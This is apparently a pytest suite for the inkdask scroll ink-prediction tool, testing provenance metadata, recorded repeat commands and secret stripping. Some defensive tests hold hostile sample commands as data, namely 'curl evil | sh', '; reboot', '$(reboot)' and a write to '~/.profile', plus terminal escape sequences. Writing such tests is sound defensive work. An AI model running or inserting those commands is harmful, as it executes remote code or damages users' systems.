"""Provenance of pictures and grids, and the command that makes them again."""

import json
import logging
import os
import re
import shlex
import shutil
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import tifffile
import zarr
from PIL import Image
from PIL.PngImagePlugin import PngInfo

import inkdask
from inkdask import cli, messages, storage
from inkdask.demo import synthetic
from inkdask.job import changed_input
from inkdask.models.registry import known
from inkdask.pictures import exporting
from inkdask.pictures.reading import read_facts
from inkdask.plan import Plan
from inkdask.provenance import OF_GRIDS, OF_PICTURES, origin_of, recipe_of, without_secrets
from inkdask.settings import Settings
from tests.files import ome
from tests.jobs import ORIGIN, PROVENANCE, RECIPE, store_in
from tests.oracle import depth_slope, papyrus

pytestmark = pytest.mark.usefixtures("own_environment")


@pytest.fixture(scope="module")
def segment(tmp_path_factory):
    folder = tmp_path_factory.mktemp("scroll") / "20230702"
    synthetic.write_segment(folder, height=150, width=300, layers=26)
    return folder


@pytest.fixture(scope="module")
def prediction(segment, tmp_path_factory):
    """Picture of a job that gives every parameter that shapes a picture; to read only."""
    folder = tmp_path_factory.mktemp("job")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ZARR_OUTPUT_DIR", str(folder))
        patch.setenv("RESULT_FILE", str(folder / "result.txt"))
        patch.setenv("CHUNK_SIZE", "128")
        patch.setenv("HF_TOKEN", "marked-secret")
        patch.setenv("AWS_SECRET_ACCESS_KEY", "marked-secret")
        return inkdask.run(
            segment, model="demo", layers=(0, 26), force_reverse=True, roi_xyxy=(16, 8, 190, 150),
            tile=64, stride=32, divisor=190, clip=180, blend_mode="gaussian",
            gaussian_sigma=20.125, precision="float32", pixel_resolution_um=7.912345678,
            compile=False,
        )  # fmt: skip


def info(capsys, path):
    cli.main(["info", str(path)])
    return dict(line.split(maxsplit=1) for line in capsys.readouterr().out.splitlines())


def test_info_says_the_same_of_every_kind_of_file(prediction, segment, tmp_path, capsys):
    stored = prediction.replace(".png", ".zarr")
    exports = [tmp_path / f"p.{ending}" for ending in ("png", "tif", "jpg", "zarr")]
    inkdask.export(stored, exports)
    told = [info(capsys, path) for path in (prediction, stored, *exports)]
    kinds = [rows.pop("type").split(",")[0] for rows in told]
    assert tifffile.imread(tmp_path / "p.tif").shape == (142, 174)  # though it has our text
    assert kinds == ["PNG", "OME-Zarr", "PNG", "BigTIFF", "JPEG", "OME-Zarr"]
    for rows in told:
        rows.pop("picture")
        rows.pop("export", None)
        assert rows == told[0]
    rows = told[0]
    assert rows["segment"].startswith(f"{segment} (input ")
    assert rows["layers"] == "26 (0:26 in reverse), the middle"
    assert rows["region"] == "16,8,190,150 (x0,y0,x1,y1)"
    assert rows["model"].startswith("demo (ink_depth_cnn) from package://")
    assert len(rows["weights"].split()[1]) == 64
    assert rows["voxels"] == "clipped to 180, divided by 190"
    assert rows["tiles"] == "64 px at stride 32 (506.4 um), gaussian window of sigma 20.125 px"
    assert rows["size"].startswith("174 x 142 pixels (x, y) of 7.91 um")
    for name in ("inkdask", "torch", "dask", "zarr", "numpy", "python"):
        assert name in rows["software"]
    assert rows["precision"] == "float32 (float32 ran)"
    assert rows["made"].startswith("20")


def test_recorded_command_makes_the_same_picture(prediction, capsys, tmp_path, monkeypatch):
    first = np.asarray(Image.open(prediction))
    words = shlex.split(info(capsys, prediction)["repeat"])
    assert words[:2] == ["inkdask", "run"]
    (tmp_path / "elsewhere" / "demo").mkdir(parents=True)  # a folder named like the model
    monkeypatch.chdir(tmp_path / "elsewhere")
    cli.main([*words[1:], "--output-path", "again", "--zarr-output-dir", "grids", "--no-compile"])
    (again,) = capsys.readouterr().out.split()
    assert np.array_equal(np.asarray(Image.open(again)), first)
    assert info(capsys, again)["repeat"] == shlex.join(words)


@pytest.mark.parametrize(
    "look",
    [*(["--overlay", "mean", "--opacity", share] for share in ("0.5", "0")), ["--reverse-video"]],
)
def test_recorded_command_of_an_export_makes_the_same_file(prediction, capsys, tmp_path, look):
    stored = prediction.replace(".png", ".zarr")
    cli.main(
        ["export", stored, "--to", str(tmp_path / "p.png"), *look, "--colour-map", "hot",
         "--add-scale-bar", "--scale-bar-length-um", "400", "--roi-xyxy", "20,10,150,100",
         "--pixel-resolution-um", "8.5"]
    )  # fmt: skip
    first = (tmp_path / "p.png").read_bytes()
    capsys.readouterr()
    words = shlex.split(info(capsys, tmp_path / "p.png")["export"])
    (tmp_path / "p.png").unlink()
    cli.main(words[1:])
    assert (tmp_path / "p.png").read_bytes() == first


def test_overlay_reads_the_prepared_layers(segment, tmp_path):
    own = shutil.copytree(segment, tmp_path / "segment", ignore=shutil.ignore_patterns("pred*"))
    volume = inkdask.prepare(own, layers=(0, 26), surface_volume_zarr=tmp_path / "v.zarr")
    uri = inkdask.run(
        own, model="demo", layers=(0, 26), stride=32, surface_volume_zarr=volume, compile=False
    )
    shutil.rmtree(own / "layers")
    inkdask.export(uri.replace(".png", ".zarr"), tmp_path / "p.png", overlay="max")
    assert np.asarray(Image.open(tmp_path / "p.png")).max() > 150


def test_function_as_model_has_no_recorded_command(segment, capsys, tmp_path):
    uri = inkdask.run(segment, model=depth_slope, layers=(0, 26), output_path=str(tmp_path / "p"))
    rows = info(capsys, uri)
    assert "function" in rows["repeat"]
    assert rows["precision"] == "auto"  # because inkdask does not choose it


def test_info_of_a_grid_says_how_much_is_done(segment, tmp_path, capsys):
    options = {"model": "demo", "layers": (0, 26), "stride": 32, "num_parts": 2, "compile": False}
    grid = inkdask.run(segment, part_id=0, **options)
    rows = info(capsys, grid)
    assert rows["grid"] == grid
    assert rows["done"] == "1 of 2 chunks (50%)"
    assert rows["tiles"] == "64 px at stride 32"
    assert rows["repeat"].startswith(f"inkdask run {segment} --model demo --layers 0:26")
    inkdask.run(segment, part_id=1, **options)
    assert info(capsys, grid)["done"] == "2 of 2 chunks (100%)"
    cli.main(
        ["reduce", "--grid", grid, "--add-scale-bar", "--pixel-resolution-um", "8",
         "--output-path", str(tmp_path / "reduced")]
    )  # fmt: skip
    (picture,) = capsys.readouterr().out.split()
    with Image.open(picture) as image:
        assert 255 in np.asarray(image)[-30:]


def test_info_of_pictures_on_s3_reads_little(s3, prediction, capsys):
    inkdask.export(prediction.replace(".png", ".zarr"), [f"{s3}/p.png", f"{s3}/p.tif"])
    read = storage.counters().bytes_read
    rows = info(capsys, f"{s3}/p.tif")
    assert rows["model"].startswith("demo")
    assert info(capsys, f"{s3}/p.png")["weights"] == rows["weights"]
    assert storage.counters().bytes_read - read < 2e6
    text = storage.read_bytes(f"{s3}/p.png") + storage.read_bytes(f"{s3}/p.tif")
    assert b"testing-secret" not in text


def test_without_secrets_hides_passwords_of_uris():
    hidden = without_secrets({"a": ["s3://key:pass@bucket/x", 3], "b": {"c": "tcp://u:p@host"}})
    assert hidden == {"a": ["s3://bucket/x", 3], "b": {"c": "tcp://host"}}


def test_parameters_of_the_command_exist():
    assert {*OF_GRIDS, *OF_PICTURES} <= set(Settings.model_fields)
    options = {option.name for option in cli.export.params}
    assert {*exporting.OF_COMMANDS} < options


def test_provenance_has_weights_and_no_secrets(prediction):
    with Image.open(prediction) as image:
        text = image.text["inkdask"]
    made = json.loads(text)
    assert made["recipe"]["weights"]
    assert made["origin"]["weights_from"] == known()["demo"].weights
    assert made["origin"]["command"]
    assert "secret" not in text


@pytest.mark.parametrize("name", ["p.png", "p.tif", "p.jpg"])
def test_info_of_a_picture_without_provenance(tmp_path, capsys, name):
    Image.new("RGB", (30, 20)).save(tmp_path / name)
    rows = info(capsys, tmp_path / name)
    assert rows["size"] == "30 x 20 pixels (x, y)"
    assert rows["origin"] == "not recorded in the file"


def test_info_of_a_tiff_with_another_description(tmp_path, capsys):
    tifffile.imwrite(tmp_path / "dog.tif", np.zeros((4, 5), np.uint8), description="a dog")
    assert info(capsys, tmp_path / "dog.tif")["origin"] == "not recorded in the file"


@pytest.mark.parametrize("name", ["p.png", "p.tif", "p.jpg"])
def test_info_reports_a_file_that_is_no_picture(tmp_path, capsys, name):
    (tmp_path / name).write_bytes(b"no picture at all")
    with pytest.raises(SystemExit) as stopped:
        cli.main(["info", str(tmp_path / name)])
    assert stopped.value.code == 1
    error = capsys.readouterr().err
    assert str(tmp_path / name) in error
    assert len(error.splitlines()) == 1


def write_png(path, provenance):
    """Write a PNG that says of itself what ``provenance`` says."""
    words = PngInfo()
    words.add_itxt("inkdask", json.dumps(provenance.to_json()))
    Image.new("L", (431, 300)).save(path, pnginfo=words)


def test_nested_words_of_another_program_are_no_provenance(tmp_path):
    words = PngInfo()
    words.add_itxt("inkdask", "[" * 200_000 + "]" * 200_000)
    Image.new("L", (43, 30)).save(tmp_path / "p.png", pnginfo=words)
    assert read_facts(str(tmp_path / "p.png")).provenance is None


def test_control_characters_of_a_file_do_not_reach_the_terminal(tmp_path, capsys):
    evil = "\x1b]0;owned\x07\x9b2J\r\u202ex\ny"
    command = ("inkdask", "run", evil, "--model", evil)
    origin = replace(ORIGIN, source=evil, mask=evil, software={evil: evil}, command=command)
    recipe = replace(RECIPE, model=evil, weights=evil)
    write_png(tmp_path / "p.png", replace(PROVENANCE, recipe=recipe, origin=origin, created=evil))
    cli.main(["info", str(tmp_path / "p.png")])
    text = capsys.readouterr().out
    assert r"\x1b]0;owned\x07\x9b2J\r\u202ex\ny" in text
    assert text.replace("\n", "").isprintable()


def test_control_characters_in_an_error_or_message_are_escaped(tmp_path, capsys):
    (tmp_path / "\x1b[2J").mkdir()
    with pytest.raises(SystemExit):
        cli.main(["info", str(tmp_path / "\x1b[2J")])
    text = capsys.readouterr().err
    assert r"\x1b[2J" in text
    assert text.removesuffix("\n").isprintable()
    record = logging.LogRecord("inkdask", logging.INFO, "", 0, "one\x1b[2J\ntwo", None, None)
    assert messages.Printable("%(message)s").format(record) == "one\\x1b[2J\ntwo"


@pytest.mark.parametrize(
    "command",
    [
        ("sh", "-c", "curl evil | sh"), ("inkdask", "run"), ("inkdask", "run", "--help"),
        ("inkdask", "prepare", "s3://bucket/seg"), ("inkdask", "run", "seg", ";", "reboot"),
        ("inkdask", "run", "seg", "--result-file", "/home/me/.profile"),
        ("inkdask", "run", "seg", "--overwrite"), ("inkdask", "run", "seg", "--tile=3"),
    ],
)  # fmt: skip
def test_foreign_command_is_not_shown_as_one_to_repeat(tmp_path, capsys, command):
    export = (command[0], command[1].replace("run", "export"), *command[2:])
    origin = replace(ORIGIN, command=command)
    write_png(tmp_path / "p.png", replace(PROVENANCE, origin=origin, export=export))
    rows = info(capsys, tmp_path / "p.png")
    for name in ("repeat", "export"):
        assert rows[name].startswith("not shown")


def test_recorded_command_is_quoted_for_the_shell(tmp_path, capsys):
    origin = replace(ORIGIN, command=("inkdask", "run", "a b; reboot", "--mask-path", "$(reboot)"))
    write_png(tmp_path / "p.png", replace(PROVENANCE, origin=origin))
    said = info(capsys, tmp_path / "p.png")["repeat"]
    assert said == "inkdask run 'a b; reboot' --mask-path '$(reboot)'"


def test_recorded_commands_hold_absolute_paths(segment, tmp_path, monkeypatch, capsys):
    own = shutil.copytree(segment, tmp_path / "home" / "seg")
    Image.new("L", (300, 150), 1).save(own.parent / "mask.png")
    monkeypatch.setenv("HOME", str(own.parent))
    monkeypatch.chdir(own.parent)
    (own.parent / "auto").mkdir()  # a folder named like a value
    options = {"model": "demo", "layers": (0, 26), "stride": 32, "precision": "float32"}
    uri = inkdask.run("~/seg", mask_path="mask.png", output_path="out", **options)
    words = shlex.split(info(capsys, uri)["repeat"])
    assert words[2] == str(own)
    assert words[words.index("--mask-path") + 1] == str(own.parent / "mask.png")
    stored = uri.replace(".png", ".zarr")
    inkdask.export(os.path.relpath(stored), "p.png", overlay="max", segment="seg")
    words = shlex.split(info(capsys, "p.png")["export"])
    assert words[2] == stored
    assert words[words.index("--segment") + 1] == str(own)
    assert words[words.index("--to") + 1] == str(own.parent / "p.png")
    again = inkdask.reduce(f"file://{own}", mask_path="~/mask.png", output_path="out", **options)
    assert again == uri


BROKEN = [
    ("recipe", "size", [0, 9]), ("recipe", "size", [10**30, 9]), ("recipe", "size", [9, 9]),
    ("recipe", "tile", 10**30), ("recipe", "tile", 0), ("recipe", "k", 0), ("recipe", "k", 10**30),
    ("recipe", "k", 5), ("recipe", "chunk", [256, 128]), ("recipe", "chunk", [256, 0]),
    ("recipe", "layers", []), ("recipe", "layers", None), ("origin", "command", "inkdask run"),
    ("origin", "software", []),
    ("origin", None, None), ("recipe", None, 3),
]  # fmt: skip


@pytest.mark.parametrize(("part", "name", "value"), BROKEN)
def test_broken_origin_is_one_sentence(tmp_path, capsys, part, name, value):
    uri = store_in(tmp_path).uri
    path = Path(uri) / "zarr.json"
    told = json.loads(path.read_text())
    if name is None:
        told["attributes"][part] = value
    else:
        told["attributes"][part][name] = value
    path.write_text(json.dumps(told))
    for words in (["info", uri], ["reduce", "--grid", uri, "--output-path", str(tmp_path)]):
        with pytest.raises(SystemExit) as stopped:
            cli.main(words)
        assert stopped.value.code == 1
        assert re.fullmatch(r"inkdask: [^\n]*seg-[^\n]*\.\n", capsys.readouterr().err)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        (None, 0), (None, "x"), ("layers", -1), ("layers", "x"), ("layers", [3]),
        ("layers", [10**308, 1, 2]), ("layers", [2, 1, 0]),
        ("layers", [-1, 0, 1]), ("prepared_from", {"uri": 1, "identity": 2, "layers": 3}),
        ("occupied", -1), ("occupied", {"a": 1}),
    ],
)  # fmt: skip
def test_broken_attributes_of_a_prepared_array_are_one_sentence(tmp_path, capsys, name, value):
    place = tmp_path / "v.zarr"
    zarr.create_array(str(place), data=papyrus((3, 70, 90)))
    told = json.loads((place / "zarr.json").read_text())
    told["attributes"] = value if name is None else {name: value}
    (place / "zarr.json").write_text(json.dumps(told))
    with pytest.raises(SystemExit) as stopped:
        cli.main(["info", str(place)])
    assert stopped.value.code == 1
    assert re.fullmatch(r"inkdask: [^\n]*v\.zarr[^\n]*\.\n", capsys.readouterr().err)


def test_recipe_differs_with_the_weights(segment):
    plan = Plan.of(segment, Settings.of(model=depth_slope))
    other = replace(plan, network=replace(plan.network, digest="other"))
    assert recipe_of(plan) != recipe_of(other)


def test_origin_hides_passwords(segment):
    settings = Settings.of(model=depth_slope)
    plan = Plan.of(segment, settings)
    place = replace(plan.segment, uri="s3://key:marked-secret@bucket/segment")
    assert "marked-secret" not in str(origin_of(replace(plan, segment=place), settings))


def test_region_of_a_cropped_segment_is_counted_in_the_files(segment):
    cropped = inkdask.open_segment(segment).crop(slice(20, 140), slice(30, 290))
    settings = Settings.of(model=depth_slope, roi_xyxy=(5, 7, 100, 90))
    assert origin_of(Plan.of(cropped, settings), settings).roi_xyxy == (35, 27, 130, 110)


def test_environment_does_not_label_what_a_notebook_predicts(segment, monkeypatch):
    monkeypatch.setenv("S3_PATH", "s3://another/segment")
    monkeypatch.setenv("START_LAYER", "7")
    monkeypatch.setenv("END_LAYER", "19")
    monkeypatch.setenv("SURFACE_VOLUME_ZARR", "s3://another/volume.zarr")
    monkeypatch.setenv("MASK_PATH", "s3://another/mask.png")
    settings = Settings.of(model="demo")
    origin = origin_of(Plan.of(inkdask.open_segment(segment), settings), settings)
    assert (origin.source, origin.volume) == (str(segment), str(segment))
    assert origin.layer_range == (0, 26)
    assert not {"another", "7:19", "--mask-path"} & {*" ".join(origin.command).split()}
    assert "another" not in " ".join(origin.command)
    array = origin_of(Plan.of(np.ones((26, 70, 70), np.uint8), settings), settings)
    assert (array.source, array.layer_range) == (None, (0, 26))


def test_origin_names_the_level_that_was_opened(tmp_path, monkeypatch):
    monkeypatch.setenv("OME_ZARR_LEVEL", "0")
    pixels = papyrus((26, 70, 90))
    group = zarr.create_group(str(tmp_path / "seg.zarr"), attributes=ome("0.5"))
    for level in "01":
        group.create_array(level, data=pixels, chunks=(26, 64, 64))
    settings = Settings.of(model="demo")
    plan = Plan.of(inkdask.open_segment(tmp_path / "seg.zarr", level="1"), settings)
    origin = origin_of(plan, settings)
    assert origin.ome_zarr_level == "1"
    assert "--ome-zarr-level 1" in " ".join(origin.command)
    monkeypatch.setenv("OME_ZARR_LEVEL", "1")
    settings = Settings.of(model="demo")
    plan = Plan.of(inkdask.open_segment(tmp_path / "seg.zarr"), settings)
    assert origin_of(plan, settings).ome_zarr_level == "0"
    assert changed_input(recipe_of(plan), origin_of(plan, settings)) == ""
